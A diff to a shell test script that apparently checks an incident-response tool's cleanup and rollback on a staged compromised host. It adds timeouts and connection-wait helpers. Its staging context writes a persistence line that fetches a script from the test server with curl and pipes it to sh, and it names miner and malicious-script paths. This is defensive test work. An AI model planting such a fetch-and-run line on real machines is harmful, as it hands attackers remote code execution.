@@ -3,6 +3,7 @@
 #
 # The main job: the staged incident is planned, cleaned up, found clean, and taken back.
 set -u
+range_seconds=600
 . "$TOP_SRCDIR/tests/range/host.sh"
 enter_range "$@"
 install_respond
@@ -17,6 +18,7 @@ printf 'umask 022\n(sleep 5; curl -s http://%s/m.sh | sh) &\n' "$SERVER" >>/home
 
 # ---- questions to the host -------------------------------------------------------
 
+# Each of these two gives up soon: whoever expects an answer awaits it.
 connects_out() {
 	timeout 1 bash -c "exec 3<>/dev/tcp/$SERVER/3333" 2>/dev/null
 }
@@ -47,8 +49,14 @@ no_miners() {
 	[ -z "$(miners)" ] || { miners; return 1; }
 }
 
+# It is there, and neither dead nor stopped: it may have something to do.
 lives() {
-	[ "$(ps -o stat= -p "$1" | cut -c1)" = S ]
+	ps -o stat= -p "$1" | grep -q '^[SRD]'
+}
+
+# Each connection to sshd has one child of it, which stays for a moment when the client has gone.
+operator_alone_is_in() {
+	[ "$(pgrep -c -P "$SSHD_PID")" = 1 ]
 }
 
 in_vault() {
@@ -74,14 +82,18 @@ firewall=$(firewall)
 sshd=$(sshd_settings)
 touched=$(touched_files)
 
-check "the server is reached before" connects_out
-check "the server reaches us before" connects_in "$SERVER"
+check "the server is reached before" await connects_out
+check "the server reaches us before" await connects_in "$SERVER"
 check "root's attacker can log in before" root_can_log_in attacker
 
 # A connection to the server whose process is not to be killed.
-"$TOP_BUILDDIR/tests/range/sleeper" -c "$SERVER" 3333 &
+RANGE_DEADLINE=$RANGE_DEADLINE "$TOP_BUILDDIR/tests/range/sleeper" -c "$SERVER" 3333 &
 beacon=$!
-sleep 0.2
+is_connected() {
+	ss -Htnp state established dst "$SERVER" | grep -q "pid=$beacon,"
+}
+await is_connected || echo "the beacon does not connect"
+await operator_alone_is_in || echo "sshd has somebody else yet"
 
 # ---- dry run -----------------------------------------------------------------------
 
@@ -120,7 +132,7 @@ wait $beacon
 same "run: a live connection to the server is ended" 3 $?
 check_not "run: the server is not reached any more" connects_out
 check_not "run: the server does not reach us any more" connects_in "$SERVER"
-check "run: others reach us" connects_in "$OPERATOR"
+check "run: others reach us" await connects_in "$OPERATOR"
 
 for path in /usr/local/bin/xmrig /tmp/malicious.sh /etc/cron.hourly/malicious; do
 	check_not "run: $path is gone" test -e $path
@@ -179,6 +191,7 @@ same "again: a dry run finds nothing either" 0 $status
 
 # ---- rollback --------------------------------------------------------------------------
 
+await operator_alone_is_in || echo "sshd has somebody else yet"
 after=$(every_file)
 run_respond --rollback "$run" --dry-run
 same "rollback, dry run: not everything can be undone" 3 $status
@@ -195,7 +208,7 @@ check "rollback: sshd lives" lives "$SSHD_PID"
 check "rollback: sshd answers" root_can_log_in attacker
 check "rollback: the database lives" lives "$MYSQLD_PID"
 check "rollback: the operator's session lives" lives "$SESSION_PID"
-check "rollback: the server is reached again" connects_out
+check "rollback: the server is reached again" await connects_out
 
 run_respond --rollback "$run"
 same "rollback: a second one changes nothing" "$files" "$(incident_files)"
